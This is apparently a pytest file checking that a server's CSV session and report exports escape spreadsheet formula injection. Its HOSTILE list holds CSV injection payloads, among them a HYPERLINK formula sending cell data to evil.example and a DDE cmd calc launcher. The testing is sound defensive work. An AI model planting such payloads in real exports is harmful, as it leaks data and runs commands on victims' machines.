"""CSV exports are safe to open in a spreadsheet: what a visitor typed never becomes a formula
(OWASP CSV injection: a cell starting with =, +, -, @, tab or CR is prefixed with ')."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest

from server import keys
from server.app import create_app
from server.http.csvsafe import neutralise
from tests.helpers import (
    add_terminal,
    bearer,
    connect,
    make_settings,
    quick_manager,
    quick_specialist,
)

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]


@pytest.fixture
async def client(aiohttp_client: Any, tmp_path: Path) -> AsyncIterator[Any]:
    app = create_app(make_settings(f"sqlite+aiosqlite:///{tmp_path / 'vwin.db'}"))
    yield await aiohttp_client(app)


def rows_of(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


@pytest.mark.parametrize("value", HOSTILE)
def test_a_hostile_cell_is_neutralised(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert neutralise("平安 =1") == "平安 =1"
    assert (neutralise(-3), neutralise(2.5), neutralise(None)) == ("-3", "2.5", "")


async def session_of_hostile_values(client: Any, value: str) -> None:
    """One answered, rated and wrapped-up session whose every typed field is `value`."""
    app = client.server.app
    await app[keys.DB].add_site("evil", value, "park")
    agent = await connect(client, await quick_specialist(app, "alice", {"tax": 1}, name=value))
    await agent.send({"type": "agent.status", "status": "available"})
    kiosk = await connect(client, await add_terminal(app, "T1", "evil"))
    await kiosk.send({"type": "call.request", "queue": "tax",
                      "enterprise": {"name": value}})
    offered = await agent.recv("call.offered")
    await agent.send({"type": "call.accept", "call_id": offered["call_id"]})
    session_id = (await kiosk.recv("call.connected"))["session_id"]
    await kiosk.send({"type": "call.hangup", "call_id": offered["call_id"]})
    await kiosk.recv("call.ended")
    await kiosk.send({"type": "session.rate", "session_id": session_id, "score": 1,
                      "comment": value})
    await agent.send({"type": "session.wrapup", "session_id": session_id,
                      "outcome": "resolved", "notes": value})
    await kiosk.recv("saved")
    await agent.recv("saved")


@pytest.mark.parametrize("value", [HOSTILE[0], HOSTILE[3], HOSTILE[5]])
async def test_every_export_round_trips_hostile_values(client: Any, value: str) -> None:
    await session_of_hostile_values(client, value)
    manager = await quick_manager(client.server.app)
    resp = await client.get("/api/sessions.csv", headers=bearer(manager))
    (row,) = rows_of(await resp.read())
    for column in ("site_name", "enterprise_name", "specialist_name", "notes",
                   "rating_comment"):
        assert row[column] == "'" + value, column
    assert row["rating"] == "1" and not row["wait_s"].startswith("'")
    for by, column in (("site", "label"), ("specialist", "label")):
        resp = await client.get("/api/reports.csv", params={"by": by}, headers=bearer(manager))
        assert resp.status == 200
        cells = [r[column] for r in rows_of(await resp.read())]
        assert cells == ["'" + value], by
